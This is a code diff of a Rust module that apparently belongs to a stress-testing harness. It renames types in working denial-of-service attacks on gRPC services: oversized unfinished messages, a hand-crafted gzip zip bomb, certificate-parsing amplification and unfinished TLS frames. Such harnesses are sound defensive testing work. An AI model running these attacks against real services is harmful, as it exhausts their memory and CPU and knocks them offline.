@@ -1,4 +1,4 @@
-//! Messages that do not end, unpack to more than they are, or cost more than they should.
+//! Messages without an end, messages that decompress to far more than their size, and messages that cost more than they should.
 
 use std::io;
 use std::sync::Arc;
@@ -6,9 +6,9 @@ use std::sync::Arc;
 use bytes::Bytes;
 use tokio::io::AsyncWriteExt as _;
 
-use super::{Attack, Breach, Scene, attack, hold, unless_stalled};
-use crate::target::Kind;
-use crate::wire::grpc::{Windows, head};
+use super::{Attack, AttackContext, Breach, attack, hold, unless_stalled};
+use crate::target::TargetKind;
+use crate::wire::grpc::{FlowControlWindows, head};
 use crate::wire::link;
 use crate::wire::tls;
 
@@ -16,26 +16,26 @@ const MIB: usize = 1 << 20;
 
 pub fn attacks() -> Vec<Attack> {
     vec![
-        attack!("unfinished-messages", "announces 99 MiB, ends at 98", &[Kind::Gateway, Kind::Orderer, Kind::Kv], 120.0 "MiB", unfinished),
-        attack!("announced-messages", "announces 99 MiB, sends 100 KB", &[Kind::Gateway, Kind::Orderer], 300.0 "calls", announced),
-        attack!("zip-bomb", "a compressed message of 25 MiB", &[Kind::Gateway, Kind::Orderer, Kind::Kv], 50.0 "calls", zip_bomb),
-        attack!("identities", "writes one identity in many ways", &[Kind::Gateway], 300.0 "calls", identities),
-        attack!("unfinished-frames", "a node's certificate, frames of 127 MiB that end at 100", &[Kind::Blocks, Kind::Intake, Kind::Others], 100.0 "MiB", unfinished_frames),
+        attack!("unfinished-messages", "announces 99 MiB, ends at 98", &[TargetKind::Gateway, TargetKind::Orderer, TargetKind::Kv], 120.0 "MiB", unfinished),
+        attack!("announced-messages", "announces 99 MiB, sends 100 KB", &[TargetKind::Gateway, TargetKind::Orderer], 300.0 "calls", announced),
+        attack!("zip-bomb", "a compressed message of 25 MiB", &[TargetKind::Gateway, TargetKind::Orderer, TargetKind::Kv], 50.0 "calls", zip_bomb),
+        attack!("identities", "writes one identity in many ways", &[TargetKind::Gateway], 300.0 "calls", identities),
+        attack!("unfinished-frames", "a node's certificate, frames of 127 MiB that end at 100", &[TargetKind::Blocks, TargetKind::Intake, TargetKind::Others], 100.0 "MiB", unfinished_frames),
     ]
 }
 
 static ONE_MIB: [u8; MIB] = [0x55; MIB];
 
-fn path(kind: Kind) -> &'static str {
+fn path(kind: TargetKind) -> &'static str {
     match kind {
-        Kind::Orderer => "/orderer.AtomicBroadcast/Broadcast",
-        Kind::Kv => "/heddle.kv.KeyValues/Put",
+        TargetKind::Orderer => "/orderer.AtomicBroadcast/Broadcast",
+        TargetKind::Kv => "/heddle.kv.KeyValues/Put",
         _ => "/gateway.Gateway/Evaluate",
     }
 }
 
-/// Five calls with 98 MiB each, then smaller ones for what is left; all stay unfinished.
-async fn unfinished(scene: Arc<Scene>) -> io::Result<Breach> {
+/// Five calls with 98 MiB each, then smaller ones for the remaining budget; all stay unfinished.
+async fn unfinished(scene: Arc<AttackContext>) -> io::Result<Breach> {
     let mut tasks = tokio::task::JoinSet::new();
     for place in 0..40u64 {
         let mib = if place < 5 { 99 } else { 2 };
@@ -43,7 +43,7 @@ async fn unfinished(scene: Arc<Scene>) -> io::Result<Breach> {
         tasks.spawn(async move {
             loop {
                 let sent = send_unfinished(&scene, mib).await;
-                // Refused; another call takes its place, at the pace of the rest.
+                // Refused; another call replaces it, at the pace of the rest.
                 if sent.is_err() && !scene.pace.take(1.0).await {
                     return;
                 }
@@ -57,8 +57,8 @@ async fn unfinished(scene: Arc<Scene>) -> io::Result<Breach> {
     Ok(None)
 }
 
-async fn send_unfinished(scene: &Scene, mib: u64) -> io::Result<()> {
-    let channel = scene.grpc(Windows::default()).await?;
+async fn send_unfinished(scene: &AttackContext, mib: u64) -> io::Result<()> {
+    let channel = scene.grpc(FlowControlWindows::default()).await?;
     scene.pace.connected();
     let mut stream = channel.open(path(scene.port.kind), &[]).await?;
     stream.send(Bytes::copy_from_slice(&head(mib << 20))).await?;
@@ -73,10 +73,10 @@ async fn send_unfinished(scene: &Scene, mib: u64) -> io::Result<()> {
     Ok(())
 }
 
-async fn announced(scene: Arc<Scene>) -> io::Result<Breach> {
+async fn announced(scene: Arc<AttackContext>) -> io::Result<Breach> {
     scene
         .each(1_500, |scene, _| async move {
-            let channel = scene.grpc(Windows::default()).await?;
+            let channel = scene.grpc(FlowControlWindows::default()).await?;
             scene.pace.connected();
             let mut stream = channel.open(path(scene.port.kind), &[]).await?;
             stream.send(Bytes::copy_from_slice(&head(99 << 20))).await?;
@@ -87,13 +87,13 @@ async fn announced(scene: Arc<Scene>) -> io::Result<Breach> {
         .await
 }
 
-async fn zip_bomb(scene: Arc<Scene>) -> io::Result<Breach> {
+async fn zip_bomb(scene: Arc<AttackContext>) -> io::Result<Breach> {
     let bomb = Bytes::from(gzipped_zeros(100_000));
     scene
         .each(100, move |scene, _| {
             let bomb = bomb.clone();
             async move {
-                let channel = scene.grpc(Windows::default()).await?;
+                let channel = scene.grpc(FlowControlWindows::default()).await?;
                 scene.pace.connected();
                 let mut stream = channel.open(path(scene.port.kind), &[("grpc-encoding", "gzip")]).await?;
                 let mut head = head(bomb.len() as u64);
@@ -108,7 +108,7 @@ async fn zip_bomb(scene: Arc<Scene>) -> io::Result<Breach> {
         .await
 }
 
-/// Zeros, 258 for each 13 bits: the fixed codes of DEFLATE for a length of 258 and a distance of 1.
+/// Zeros, 258 per 13 bits: the fixed codes of DEFLATE for a length of 258 and a distance of 1.
 fn gzipped_zeros(runs: usize) -> Vec<u8> {
     let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
     let (mut held, mut count) = (0u64, 0);
@@ -134,10 +134,10 @@ fn gzipped_zeros(runs: usize) -> Vec<u8> {
     bytes
 }
 
-/// Each call costs the server a new look at the certificate, unless it knows the identity however it is written.
-async fn identities(scene: Arc<Scene>) -> io::Result<Breach> {
+/// Each call makes the server parse the certificate again, unless it recognises the identity in every encoding.
+async fn identities(scene: Arc<AttackContext>) -> io::Result<Breach> {
     let user = scene.target.user(scene.insider())?;
-    let channel = scene.grpc(Windows::default()).await?;
+    let channel = scene.grpc(FlowControlWindows::default()).await?;
     scene.pace.connected();
     scene
         .each(200, move |scene, number| {
@@ -151,7 +151,7 @@ async fn identities(scene: Arc<Scene>) -> io::Result<Breach> {
         .await
 }
 
-async fn unfinished_frames(scene: Arc<Scene>) -> io::Result<Breach> {
+async fn unfinished_frames(scene: Arc<AttackContext>) -> io::Result<Breach> {
     let config = tls::config(Some(&scene.target.node_tls(&format!("gateway-org{}", scene.insider()))?), &[])?;
     let mut tasks = tokio::task::JoinSet::new();
     for _ in 0..8 {
